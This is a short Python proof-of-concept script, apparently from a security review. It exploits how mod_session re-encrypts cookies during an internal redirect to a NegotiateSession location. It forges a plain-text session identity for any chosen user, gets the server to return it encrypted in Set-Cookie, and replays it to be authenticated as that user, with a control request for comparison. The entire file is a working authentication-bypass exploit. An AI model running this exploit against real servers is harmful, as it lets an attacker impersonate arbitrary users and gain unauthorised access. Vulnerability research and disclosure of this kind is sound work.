#!/usr/bin/python3
"""Security review 2: a forged NegotiateSession identity, sent as a
PLAIN-TEXT cookie to a location where Session is On without a passphrase,
is re-encrypted under the NegotiateSession location's passphrase by
mod_session when an internal redirect (or subrequest) of that request
reaches the NegotiateSession location; the client gets it back in
Set-Cookie and is then whoever it named.

  session_launder.py BASE_URL ENTRY_PATH TARGET_PATH USER
Prints step1=STATUS set_cookie=yes|no step2=STATUS/REMOTE_USER.
"""
import http.client
import sys
import time
import urllib.parse


def forged(user):
    now = int(time.time())
    lines = ['neg2', str(now + 200), 'ntlm', 'NTLM', user, 'EXAMPLE',
             'EXAMPLE.TEST', user + '@EXAMPLE.TEST', '', '', '0', str(now),
             '/app/whoami', '', '', '']
    return '\n'.join(lines)


def main():
    base, entry, target, user = sys.argv[1:5]
    u = urllib.parse.urlsplit(base)
    plain = 'negotiate-identity=' + urllib.parse.quote(forged(user), safe='')
    c = http.client.HTTPConnection(u.hostname, u.port, timeout=30)
    c.request('GET', entry, headers={'Cookie': 'negotiate_session=' + plain})
    r = c.getresponse()
    r.read()
    cookie = None
    for k, v in r.getheaders():
        if k.lower() == 'set-cookie' and v.startswith('negotiate_session='):
            cookie = v.split(';', 1)[0]
    print('step1=%d set_cookie=%s' % (r.status, 'yes' if cookie else 'no'))
    if not cookie:
        return
    c = http.client.HTTPConnection(u.hostname, u.port, timeout=30)
    c.request('GET', target, headers={'Cookie': cookie})
    r = c.getresponse()
    body = r.read().decode(errors='replace')
    who = ''
    for line in body.splitlines():
        if line.startswith('REMOTE_USER='):
            who = line.split('=', 1)[1]
    print('step2=%d/%s' % (r.status, who))
    # control: the plain-text cookie sent to the target directly
    c = http.client.HTTPConnection(u.hostname, u.port, timeout=30)
    c.request('GET', target, headers={'Cookie': 'negotiate_session=' + plain})
    r = c.getresponse()
    r.read()
    print('direct=%d' % r.status)


if __name__ == '__main__':
    main()
